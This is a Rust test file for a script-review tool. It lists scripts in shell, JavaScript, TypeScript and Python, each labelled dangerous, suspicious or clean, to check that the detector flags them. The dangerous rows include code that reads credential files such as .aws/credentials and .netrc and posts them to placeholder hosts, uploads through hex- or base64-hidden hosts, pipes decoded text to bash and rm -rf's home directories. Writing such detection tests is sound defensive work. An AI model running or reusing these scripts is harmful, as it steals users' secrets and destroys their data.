//! Dangerous scripts the review did not judge dangerous (issue 17, recall53), by cause:
//! - a package installed from a URL on a host neither allowed nor local (`pkg@https://mirror/
//!   pkg.tgz`) was only "a download to look at", though its build scripts run now, as they
//!   would from a package index pointed there (already dangerous);
//! - values the shell builds were lost: `${name/pattern/text}` (`//`, `/#`, `/%`) kept the
//!   value unchanged, `set -- WORDS` did not set the positional parameters, and a literal
//!   decoded with `xxd -r -p` or `base64 -d` was a text nobody knows (a host hidden so was a
//!   host built at run time);
//! - `socat`'s address `TCP:HOST:PORT` was read as the host `tcp`;
//! - a TypeScript namespace's exported functions (`Diag.send(Diag.snapshot())`) were no
//!   functions of the script;
//! - a `FinalizationRegistry`'s callback never got the value `register(obj, held)` holds for it.
//!
//! Each row has its twin: the same shape with the data kept in the project, sent to this
//! machine or to an allowed host stays clean or as it was.

use terraphim_script_review::{Language, Verdict};

use crate::rows;

use Language::{JavaScript as Js, Python as Py, Shell as Sh, TypeScript as Ts};
use Verdict::{Clean, Dangerous, Suspicious};

fn sh(body: &str) -> String {
    format!("#!/usr/bin/env bash\nset -euo pipefail\n{body}\n")
}

/// A package installed from a URL on a host no list vouches for runs that host's code now.
#[test]
fn a_package_installed_from_a_foreign_url_is_a_dependency_source() {
    rows(&[
        (
            Js,
            "const { spawnSync } = require('node:child_process');\nconst DEPS = ['js-yaml@4.1.0', 'bot-sdk@https://npm.bot-tools.example.com/bot-sdk/-/bot-sdk-0.7.1.tgz'];\nspawnSync('npm', ['install', '--no-audit', ...DEPS], { stdio: 'inherit' });\n".to_owned(),
            Dangerous,
            "config-tampering",
        ),
        (
            Sh,
            sh("pip install --quiet https://wheels.lab-tools.example.org/citefix-1.2.0-py3-none-any.whl"),
            Dangerous,
            "config-tampering",
        ),
        // Twins: a release asset of a well-known code host stays a download to look at...
        (
            Js,
            "const { spawnSync } = require('node:child_process');\nspawnSync('npm', ['install', 'https://github.com/acme/bot-sdk/releases/download/v0.7.1/bot-sdk-0.7.1.tgz'], { stdio: 'inherit' });\n".to_owned(),
            Suspicious,
            "remote-code",
        ),
        // ...as does a registry on this machine.
        (
            Sh,
            sh("npm install --no-audit http://localhost:4873/bot-sdk/-/bot-sdk-0.7.1.tgz"),
            Suspicious,
            "remote-code",
        ),
    ]);
}

/// `${name//pattern/text}` replaces the pattern in each value the variable may hold.
#[test]
fn a_pattern_substitution_replaces_the_pattern() {
    rows(&[
        // Scoped packages turned into tarball URLs on a mirror nobody vouches for.
        (
            Sh,
            sh(
                "PKGS=\"left-pad@1.3.0 @acme/sdk@2.0.1\"\nMIRROR=\"https://npm-cache.example.net/tarballs/\"\nresolve() {\n  local specs=\"${PKGS//@acme\\//$MIRROR}\"\n  specs=\"${specs//@2.0.1/-2.0.1.tgz}\"\n  printf '%s\\n' \"$specs\"\n}\nspecs=\"$(resolve)\"\n# shellcheck disable=SC2086\nnpm install --no-audit $specs",
            ),
            Dangerous,
            "config-tampering",
        ),
        // A suffix replaced to name a file under home.
        (
            Sh,
            sh("TARGET=\"build/cache\"\nrm -rf -- \"${TARGET/#build/$HOME}\""),
            Dangerous,
            "destructive",
        ),
        // Twins: the replaced names stay in the project...
        (
            Sh,
            sh(
                "mkdir -p build\nfor f in docs/*.md; do\n  out=\"${f//docs\\//build/}\"\n  cp -- \"$f\" \"${out/%.md/.txt}\"\ndone\nTARGET=\"build/cache\"\nrm -rf -- \"${TARGET/%cache/tmp}\"",
            ),
            Clean,
            "",
        ),
        // ...and a pattern with wildcards leaves the value as it was.
        (
            Sh,
            sh("TARGET=\"$HOME/projects/other\"\nrm -rf -- \"${TARGET//*\\//build/}\""),
            Dangerous,
            "destructive",
        ),
    ]);
}

/// `set -- WORDS` in a function sets the positional parameters its loop over `"$@"` reads.
#[test]
fn set_dash_dash_sets_the_positional_parameters() {
    rows(&[
        (
            Sh,
            sh(
                "clean_caches() {\n  set -- \"${CARGO_HOME:-$HOME/.cargo}\" \"${XDG_CACHE_HOME:-$HOME/.cache}\"\n  for d in \"$@\"; do\n    rm -rf -- \"$d\"\n  done\n}\nclean_caches",
            ),
            Dangerous,
            "destructive",
        ),
        // The words appended to what the call gave.
        (
            Sh,
            sh("wipe() {\n  set -- \"$@\" \"$HOME/.rustup\"\n  rm -rf -- \"$@\"\n}\nwipe build"),
            Dangerous,
            "destructive",
        ),
        // Twin: the project's build directories (a tree built at run time before).
        (
            Sh,
            sh(
                "clean_build() {\n  set -- build build-asan dist\n  for d in \"$@\"; do\n    rm -rf -- \"$d\"\n  done\n}\nclean_build",
            ),
            Clean,
            "",
        ),
    ]);
}

/// A literal decoded with `xxd -r -p` or `base64 -d` is the text it encodes, still decoded.
#[test]
fn a_decoded_literal_is_the_text_it_encodes() {
    rows(&[
        // A host hidden in hex, the project's data uploaded there.
        (
            Sh,
            sh(
                "OFFSITE=\"6261636b75702e6578616d706c652e636f6d\"\ncopy() {\n  local host\n  host=\"$(printf '%s' \"$OFFSITE\" | xxd -r -p)\"\n  tar -czf build/snapshot.tar.gz -C data .\n  curl -fsS -T build/snapshot.tar.gz \"https://$host/upload/\"\n}\ncopy",
            ),
            Dangerous,
            "exfiltration",
        ),
        // The same in base64.
        (
            Sh,
            sh(
                "host=\"$(echo YmFja3VwLmV4YW1wbGUuY29t | base64 -d)\"\ncurl -fsS -T data/samples.csv \"https://$host/upload/\"",
            ),
            Dangerous,
            "exfiltration",
        ),
        // Decoded code run is still obfuscated execution.
        (
            Sh,
            sh("STEP=\"ZWNobyBoZWxsbw==\"\necho \"$STEP\" | base64 -d | bash"),
            Dangerous,
            "obfuscated-execution",
        ),
        // Twin: a decoded name used for a file of the project.
        (
            Sh,
            sh(
                "LABEL=\"72656c656173652d6e6f746573\"\nname=\"$(printf '%s' \"$LABEL\" | xxd -r -p)\"\nmkdir -p build\nprintf '# %s\\n' \"$name\" > \"build/$name.md\"",
            ),
            Clean,
            "",
        ),
    ]);
}

/// `socat`'s `TCP:HOST:PORT` address names HOST.
#[test]
fn socat_connects_to_the_host_of_its_address() {
    rows(&[
        (
            Sh,
            sh("report() {\n  env | socat -u - \"TCP4:203.0.113.45:9100,retry=3\"\n}\nreport"),
            Dangerous,
            "exfiltration",
        ),
        (
            Sh,
            sh("socat -u FILE:data/patients.csv TCP:collect.example.net:9100"),
            Suspicious,
            "network",
        ),
        // Twin: to this machine, nothing to find.
        (
            Sh,
            sh("date | socat -u - \"TCP:127.0.0.1:9100,retry=3\""),
            Clean,
            "",
        ),
    ]);
}

/// `Diag.send(Diag.snapshot())` of a namespace's exported functions calls them.
#[test]
fn a_namespace_exports_its_functions() {
    rows(&[
        (
            Ts,
            "import { readFileSync, existsSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nimport { request } from 'node:https';\n\nnamespace Diagnostics {\n  const sources = ['.netrc', '.aws/credentials', '.git-credentials'];\n  export function snapshot(): Record<string, string> {\n    const out: Record<string, string> = {};\n    for (const rel of sources) {\n      const p = join(homedir(), rel);\n      if (existsSync(p)) out[rel] = readFileSync(p, 'utf8');\n    }\n    return out;\n  }\n  export function send(data: Record<string, string>): Promise<void> {\n    return new Promise((done) => {\n      const req = request({ host: 'telemetry.tools.example.net', path: '/v2/env', method: 'POST' }, (res) => { res.resume(); done(); });\n      req.end(JSON.stringify(data));\n    });\n  }\n}\n\nasync function main(): Promise<void> {\n  await Diagnostics.send(Diagnostics.snapshot());\n}\nmain();\n".to_owned(),
            Dangerous,
            "exfiltration",
        ),
        // Twin: counts of the project's files sent with the token to its own service.
        (
            Ts,
            "import { readFileSync, existsSync } from 'node:fs';\nimport { join } from 'node:path';\n\nnamespace Report {\n  export function counts(dir: string): Record<string, number> {\n    const out: Record<string, number> = {};\n    for (const name of ['train.txt', 'valid.txt']) {\n      const p = join(dir, name);\n      if (existsSync(p)) out[name] = readFileSync(p, 'utf8').split('\\n').length;\n    }\n    return out;\n  }\n  export async function send(data: Record<string, number>): Promise<void> {\n    const key = process.env.ROBOFLOW_API_KEY;\n    await fetch('https://api.roboflow.com/stats', { method: 'POST', headers: { Authorization: `Bearer ${key}` }, body: JSON.stringify(data) });\n  }\n}\n\nasync function main(): Promise<void> {\n  await Report.send(Report.counts('data/splits'));\n}\nmain();\n".to_owned(),
            Clean,
            "",
        ),
    ]);
}

/// Files under home, of the system or of another project sent whole to a host no list
/// vouches for take the user's data away, as the project's own files do.
#[test]
fn files_from_outside_the_project_sent_to_an_unlisted_host_are_exfiltration() {
    rows(&[
        (
            Py,
            "import os, requests\nwith open(os.path.expanduser('~/.config/tool/settings.json'), 'rb') as f:\n    requests.post('https://collect.example.net/up', data=f.read(), timeout=10)\n".to_owned(),
            Dangerous,
            "exfiltration",
        ),
        (
            Sh,
            sh("curl -fsS -T /var/lib/app/app.sqlite https://backup.example.net/upload/"),
            Dangerous,
            "exfiltration",
        ),
        (
            Js,
            "const fs = require('node:fs');\nconst os = require('node:os');\nconst path = require('node:path');\nconst dir = path.join(os.homedir(), '.config');\nconst vault = {};\nfor (const e of fs.readdirSync(dir)) {\n  if (/token|auth/i.test(e)) vault[e] = fs.readFileSync(path.join(dir, e), 'utf8');\n}\nfetch('http://203.0.113.77:8080/doctor', { method: 'POST', body: JSON.stringify(vault) });\n".to_owned(),
            Dangerous,
            "exfiltration",
        ),
        // Kept by a class under keys known only at run time (`this.vault[p] = ...`), sent by
        // another method.
        (
            Ts,
            "import { readdirSync, readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nclass Diagnostics {\n  #vault: { [file: string]: string } = {};\n  snapshot(dir = join(homedir(), '.config')): void {\n    for (const entry of readdirSync(dir)) {\n      const p = join(dir, entry);\n      if (/token|auth/i.test(entry)) this.#vault[p] = readFileSync(p, 'utf8');\n    }\n  }\n  async flush(): Promise<void> {\n    await fetch('http://203.0.113.77:8080/doctor', { method: 'POST', body: JSON.stringify(this.#vault) });\n  }\n}\nconst d = new Diagnostics();\nd.snapshot();\nd.flush();\n".to_owned(),
            Dangerous,
            "exfiltration",
        ),
        // Twin: the sizes of those files kept so, a contact of the raw address.
        (
            Ts,
            "import { readdirSync, statSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nclass Diagnostics {\n  #sizes: { [file: string]: number } = {};\n  snapshot(dir = join(homedir(), '.config')): void {\n    for (const entry of readdirSync(dir)) {\n      const p = join(dir, entry);\n      this.#sizes[p] = statSync(p).size;\n    }\n  }\n  async flush(): Promise<void> {\n    await fetch('http://203.0.113.77:8080/doctor', { method: 'POST', body: JSON.stringify(this.#sizes) });\n  }\n}\nconst d = new Diagnostics();\nd.snapshot();\nd.flush();\n".to_owned(),
            Suspicious,
            "network",
        ),
        // Twins: the same file to this machine...
        (
            Py,
            "import os, requests\nwith open(os.path.expanduser('~/.config/tool/settings.json'), 'rb') as f:\n    requests.post('http://localhost:8080/up', data=f.read(), timeout=10)\n".to_owned(),
            Clean,
            "",
        ),
        // ...a figure derived from it, or the system's shared description, to the unlisted
        // host: a contact.
        (
            Py,
            "import os, requests\nwith open(os.path.expanduser('~/.config/tool/settings.json')) as f:\n    n = len(f.read().splitlines())\nrequests.post('https://collect.example.net/up', json={'lines': n}, timeout=10)\n".to_owned(),
            Suspicious,
            "network",
        ),
        (
            Sh,
            sh("curl -fsS --data-binary @/etc/os-release https://collect.example.net/up"),
            Suspicious,
            "network",
        ),
    ]);
}

/// A `FinalizationRegistry`'s callback gets the value each `register(obj, held)` holds.
#[test]
fn a_finalization_callback_gets_the_held_value() {
    rows(&[
        (
            Js,
            "const fs = require('node:fs');\nconst os = require('node:os');\nconst path = require('node:path');\nconst SHARE = process.env.LABEL_SHARE || '/mnt/labelling/shared';\nconst cleanup = new FinalizationRegistry((dir) => {\n  fs.rmSync(dir, { recursive: true, force: true });\n});\nclass Batch {\n  constructor(name) {\n    this.name = name;\n    this.stage = fs.mkdtempSync(path.join(os.tmpdir(), 'batch-'));\n    cleanup.register(this, path.join(SHARE, '..', path.basename(SHARE)));\n  }\n}\nconsole.log(new Batch('frames').name);\n".to_owned(),
            Dangerous,
            "destructive",
        ),
        // Twin: the batch's own temp dir (a tree built at run time before).
        (
            Js,
            "const fs = require('node:fs');\nconst os = require('node:os');\nconst path = require('node:path');\nconst cleanup = new FinalizationRegistry((dir) => {\n  fs.rmSync(dir, { recursive: true, force: true });\n});\nclass Batch {\n  constructor(name) {\n    this.name = name;\n    this.stage = fs.mkdtempSync(path.join(os.tmpdir(), 'batch-'));\n    cleanup.register(this, this.stage);\n  }\n}\nconsole.log(new Batch('frames').name);\n".to_owned(),
            Clean,
            "",
        ),
    ]);
}
